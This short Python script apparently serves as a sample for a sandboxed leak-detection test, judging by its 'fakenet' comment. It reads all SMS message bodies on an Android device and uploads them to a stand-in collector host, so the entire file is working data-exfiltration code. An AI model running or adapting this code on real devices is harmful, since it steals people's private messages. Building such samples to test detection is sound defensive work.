import subprocess
import time
import urllib.parse
import urllib.request

time.sleep(60)  # one device minute after start
out = subprocess.run(["content", "query", "--uri", "content://sms", "--projection", "body"],
                     capture_output=True, text=True).stdout
bodies = [line.split("body=", 1)[1] for line in out.splitlines() if "body=" in line]
data = urllib.parse.urlencode({"sms": "\n".join(bodies)}).encode()
try:
    urllib.request.urlopen("http://collector.contract.example/upload", data=data, timeout=600).read()
except Exception as exc:  # the fakenet answers; anything else is still a leak attempt on the wire
    print("upload failed:", exc, flush=True)
print("done", flush=True)
